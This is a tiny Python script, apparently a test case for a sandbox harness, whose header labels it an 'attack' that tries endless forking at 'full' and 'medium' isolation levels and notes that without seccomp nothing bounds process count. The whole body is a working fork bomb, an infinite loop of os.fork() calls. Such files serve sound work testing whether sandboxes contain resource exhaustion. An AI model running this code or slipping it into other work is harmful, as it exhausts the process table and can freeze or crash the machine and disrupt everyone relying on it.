# /// attack
# tries = "forks without end"
# levels = ["full", "medium"]
# why = "without seccomp nothing bounds the number of processes: the machine itself would suffer"
# ///

import os

while True:
    os.fork()
